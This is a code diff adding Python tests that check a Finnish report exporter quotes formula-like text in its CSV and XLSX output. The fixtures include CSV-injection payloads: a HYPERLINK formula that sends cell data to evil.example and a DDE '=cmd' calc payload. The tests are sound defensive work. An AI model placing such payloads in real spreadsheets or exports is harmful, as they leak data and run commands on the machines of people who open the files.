@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
+import zipfile
 from datetime import UTC, datetime
 
 from openpyxl import load_workbook
@@ -52,3 +54,46 @@ def test_csv_has_every_section_as_a_block() -> None:
     assert text.startswith("\ufeffKausi;1.1.2026–31.3.2026")
     assert "# Neuvonta lajeittain\r\nLaji;Neuvontakertoja;Tunteja\r\nPuhelin;2;1.2\r\n" in text
     assert "Ideasta ensimmäiseen yhteydenottoon;0;;\r\n" in text
+
+
+EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+358401234567", "-2+3", "@SUM(A1:A9)",
+        "\t=1+1", "\r=1+1", "\n=1+1"]
+EVIL_TABLES = [
+    Table("hakemukset", "Hakemukset rahoitushauittain", ["Rahoitushaku", "Hakemuksia", "Haettu, €"],
+          [[name, -3, -1500.5] for name in EVIL]),
+    Table("ideat_kunnittain", "=Kunnat", ["@Kunta", "Ideoita"], [["=cmd|' /C calc'!A0", 2]], note="-huom"),
+]
+EVIL_META = [("Kunta", "=1+2"), ("+Luotu", "29.11.2026 klo 14.30")]
+
+
+def test_csv_text_cells_that_look_like_formulas_get_a_quote_and_numbers_stay_numbers() -> None:
+    rows = list(csv.reader(io.StringIO(build_csv(EVIL_META, EVIL_TABLES).decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert [row for row in rows if row[1:] == ["-3", "-1500.5"]] == [["'" + name, "-3", "-1500.5"] for name in EVIL]
+    assert ["# =Kunnat"] in rows and ["'@Kunta", "Ideoita"] in rows and ["'=cmd|' /C calc'!A0", "2"] in rows
+    assert rows[0] == ["Kunta", "'=1+2"] and rows[1] == ["'+Luotu", "29.11.2026 klo 14.30"]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r", "\n")]
+    assert not [cell for cell in cells if cell.startswith("-") and cell not in ("-3", "-1500.5")]
+
+
+def test_xlsx_stores_formula_like_texts_as_quoted_strings_never_as_formulas() -> None:
+    data = build_xlsx("=Raportti", EVIL_META, EVIL_TABLES, AT)
+    with zipfile.ZipFile(io.BytesIO(data)) as package:
+        sheets = [package.read(n).decode() for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not [xml for xml in sheets if "<f>" in xml or "<f " in xml]
+    book = load_workbook(io.BytesIO(data))
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
+    calls = list(book["Hakemukset rahoitushauittain"].iter_rows(min_row=3, values_only=True))
+    # the text intact after the quote (XML reads a carriage return back as a line feed)
+    assert calls == [("'" + name.replace("\r", "\n"), -3, -1500.5) for name in EVIL]
+    numbers = [c for c in cells if not isinstance(c.value, str)]
+    assert numbers and {c.data_type for c in numbers} == {"n"}
+    assert list(book["Raportti"].values)[:3] == [
+        ("'=Raportti", None), ("Kunta", "'=1+2"), ("'+Luotu", "29.11.2026 klo 14.30")
+    ]
+    assert list(book["=Kunnat"].values)[:3] == [
+        ("'=Kunnat", None), ("'@Kunta", "Ideoita"), ("'=cmd|' /C calc'!A0", 2)
+    ]
